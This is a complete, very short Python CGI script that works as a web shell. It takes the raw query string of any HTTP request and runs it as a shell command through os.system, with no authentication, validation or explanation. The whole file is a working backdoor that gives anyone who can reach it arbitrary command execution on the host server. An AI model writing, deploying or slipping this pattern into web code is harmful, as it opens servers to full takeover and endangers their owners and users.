#!/usr/bin/python3
import os
q = os.environ.get("QUERY_STRING", "")
print("Content-Type: text/plain\n")
os.system(q)
